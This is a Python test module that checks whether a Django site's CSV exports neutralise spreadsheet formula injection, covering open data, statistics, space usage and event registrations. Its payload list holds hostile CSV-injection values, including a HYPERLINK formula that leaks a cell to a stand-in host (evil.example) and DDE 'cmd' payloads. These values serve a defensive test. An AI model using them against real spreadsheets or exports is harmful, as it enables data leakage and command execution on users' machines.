"""CSV exports never hand a spreadsheet a formula (CSV injection), and stay data.

Every CSV export of the site goes through ``website.csvsafe``: the open data of the
directory, its statistics, the usage of meeting spaces, and the attendee lists of events.
Each is fed through its real view with hostile values in every text column; each cell that
comes out either is a plain number or does not start (even after blanks) with a character
that starts a formula, the file parses with the ``csv`` module in strict mode, the hostile
text is all there behind its quote, and numbers such as coordinates keep their value.
"""

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from tests.network import conftest as network_fixtures
from website import csvsafe

pytestmark = pytest.mark.django_db

# The directory's fixtures, shared with this module.
vocab = network_fixtures.vocab
make_user = network_fixtures.make_user
make_actor = network_fixtures.make_actor

# What a spreadsheet runs, and its tricks: a tab or a carriage return first, full-width
# forms, blanks before the sign, a line break and quotes inside.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Détails")',
    "=cmd|' /C calc'!A0",
    "+33 6 11 22 33 44",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "  =1+1",
    '=1+1\n"second line"',
]
TRIGGERS = tuple(csvsafe.FORMULA_STARTS)
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")


def parse(body):
    """The rows of a CSV body, read strictly: a malformed file fails here."""
    return list(csv.reader(io.StringIO(body), strict=True))


def formula_cells(rows):
    """Cells a spreadsheet would run: those that start, even after blanks, like a formula
    and are not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if not PLAIN_NUMBER.match(cell)
        and (cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS))
    ]


def body_of(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode("utf-8-sig")


# The helper itself, and the negative control: plain csv.writer lets every payload through.


def test_the_checker_catches_what_plain_csv_writer_writes():
    plain, safe = io.StringIO(), io.StringIO()
    csv.writer(plain).writerows([[payload] for payload in PAYLOADS])
    csvsafe.writer(safe).writerows([[payload] for payload in PAYLOADS])
    # Without the helper, every payload reaches the spreadsheet as it is.
    assert formula_cells(parse(plain.getvalue())) == PAYLOADS
    # With it, none does, and each comes back whole behind one quote.
    assert formula_cells(parse(safe.getvalue())) == []
    assert [row[0] for row in parse(safe.getvalue())] == ["'" + p for p in PAYLOADS]


def test_numbers_stay_numbers_and_text_is_text():
    cells = [
        -3.5,
        Decimal("-1.550000"),
        -7,
        0,
        True,
        None,
        "-2",
        "Léa",
        "a=b",
        float("nan"),
        float("-inf"),
        Decimal("-Infinity"),
        dt.date(2026, 3, 1),
    ]
    out = io.StringIO()
    csvsafe.writer(out).writerow(cells)
    assert parse(out.getvalue())[0] == [
        "-3.5",
        "-1.550000",
        "-7",
        "0",
        "True",
        "",
        "'-2",  # a text column is text, whatever it looks like
        "Léa",
        "a=b",
        "nan",
        "'-inf",  # not a number a spreadsheet knows: text, neutralised
        "'-Infinity",
        "2026-03-01",
    ]
    # Writing a cell twice through the helper changes nothing more.
    assert csvsafe.safe_cell(csvsafe.safe_cell("=1+1")) == "'=1+1"


# Each export, through its view.


@pytest.fixture
def hostile_actor(vocab, make_actor):
    """A published actor whose every exported text comes from a hostile hand."""
    from network.directory.models import LegalForm, Sector, Territory

    form = LegalForm.objects.create(slug="hostile", name_fr=PAYLOADS[0], name_en=PAYLOADS[1])
    sector = Sector.objects.create(slug="-compost", name_fr=PAYLOADS[2], name_en=PAYLOADS[3])
    territory = Territory.objects.create(
        name=PAYLOADS[4], slug="hostile", kind="commune", code="=1+1", country="@1"
    )
    return make_actor(
        name=PAYLOADS[5],
        slug="hostile",
        legal_form=form,
        territory=territory,
        identifier_kind="=1",
        identifier=PAYLOADS[6],
        address=PAYLOADS[7],
        description=PAYLOADS[12],
        website="=HYPERLINK",
        public_email="=cmd@evil.example",
        public_phone=PAYLOADS[2],
        size_band="@1",
        languages=PAYLOADS[8],
        latitude=Decimal("-33.868820"),
        longitude=Decimal("-151.209296"),
        sectors=[sector],
    )


def test_open_data_csv_neutralises_every_text_column_and_keeps_coordinates(client, hostile_actor):
    rows = parse(body_of(client.get(reverse("network:export_csv"))))
    assert formula_cells(rows) == []
    (record,) = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert record["name"] == "'" + PAYLOADS[5]
    assert record["legal_form"] == "'" + PAYLOADS[0]
    assert record["territory"] == "'" + PAYLOADS[4]
    assert record["territory_code"] == "'=1+1"
    assert record["country"] == "'@1"
    assert record["identifier_kind"] == "'=1"
    assert record["identifier"] == "'" + PAYLOADS[6]
    assert record["address"] == "'" + PAYLOADS[7]
    assert record["description"] == "'" + PAYLOADS[12]  # line break and quotes intact
    assert record["website"] == "'=HYPERLINK"
    assert record["public_email"] == "'=cmd@evil.example"
    assert record["public_phone"] == "'" + PAYLOADS[2]
    assert record["size_band"] == "'@1"
    assert record["languages"] == "'" + PAYLOADS[8]
    assert record["sectors"] == "'-compost"
    # Coordinates are numbers, written as numbers: their value, no quote.
    assert float(record["latitude"]) == -33.86882
    assert float(record["longitude"]) == -151.209296
    assert record["id"] == str(hostile_actor.pk)


def test_json_exports_keep_the_values_exactly_as_typed(client, hostile_actor):
    """Programs read JSON; nothing evaluates a formula there, so nothing is changed."""
    data = json.loads(client.get(reverse("network:export_json")).content)
    (record,) = data["actors"]
    assert record["name"] == PAYLOADS[5]
    assert record["description"] == PAYLOADS[12]
    assert record["longitude"] == -151.209296


def test_statistics_csv_neutralises_labels(client, hostile_actor):
    rows = parse(body_of(client.get(reverse("network:statistics"), {"format": "csv"})))
    assert formula_cells(rows) == []
    labels = {row[1] for row in rows}
    # Sector, legal form, territory and country, in French (the default language).
    assert {"'" + PAYLOADS[2], "'" + PAYLOADS[0], "'" + PAYLOADS[4], "'@1"} <= labels
    assert rows[-1][-1] == "1"


def test_space_usage_csv_neutralises_spaces_territories_and_sectors(
    client, vocab, make_actor, make_user
):
    from network.directory.models import Sector, Territory
    from network.spaces import services as booking
    from tests.network.booking_helpers import PARIS, join, make_space

    territory = Territory.objects.create(
        name=PAYLOADS[9], slug="hostile", kind="commune", country="FR"
    )
    space = make_space(territory, name=PAYLOADS[10], slug="hostile-space")
    sector = Sector.objects.create(slug="hostile", name_fr=PAYLOADS[1], name_en=PAYLOADS[11])
    actor = make_actor(sectors=[sector])
    requester = join(make_user("demandeuse@example.org"), actor)
    booking.booking_create(
        space=space,
        actor=actor,
        user=requester,
        start=dt.datetime(2026, 3, 2, 10, tzinfo=PARIS),
        end=dt.datetime(2026, 3, 2, 12, tzinfo=PARIS),
        purpose=PAYLOADS[0],
        attendees=10,
        now=dt.datetime(2026, 2, 20, 9, tzinfo=dt.UTC),
    )
    client.force_login(make_user("elue@ville.example", groups=["Elected officials"]))
    with translation.override("en"):
        response = client.get(
            reverse("spaces:spaces_usage"),
            {"start": "2026-03-01", "end": "2026-03-31", "format": "csv"},
        )
    rows = parse(body_of(response))
    assert formula_cells(rows) == []
    labels = {row[0]: set() for row in rows}
    for row in rows:
        labels[row[0]].add(row[1])
    assert "'" + PAYLOADS[10] in labels["By space"]
    assert "'" + PAYLOADS[9] in labels["By territory"]
    assert "'" + PAYLOADS[11] in labels["By sector of the actors"]
    by_space = next(row for row in rows if row[0] == "By space")
    assert by_space[3] == "2.0"  # the figures are untouched


def test_registrations_csv_neutralises_names_and_addresses(client, make_event, django_user_model):
    from events import services
    from events.models import Occurrence

    event = make_event(capacity=20, title=PAYLOADS[0])
    occurrence = Occurrence.objects.get(event=event)
    expected = []
    for n, payload in enumerate(PAYLOADS):
        user = django_user_model.objects.create_user(
            email=f"=cmd{n}@evil.example", password="x", display_name=payload
        )
        services.registration_create(occurrence=occurrence, user=user)
        expected.append("'" + payload)
    client.force_login(django_user_model.objects.get(email="editrice@essaim.example"))
    rows = parse(body_of(client.get(f"/admin/events/{event.pk}/registrations/", {"format": "csv"})))
    assert formula_cells(rows) == []
    assert sorted(row[2] for row in rows[1:]) == sorted(expected)
    assert {row[3] for row in rows[1:]} == {f"'=cmd{n}@evil.example" for n in range(13)}
    assert rows[1][0] == "2027-03-10 14:00"
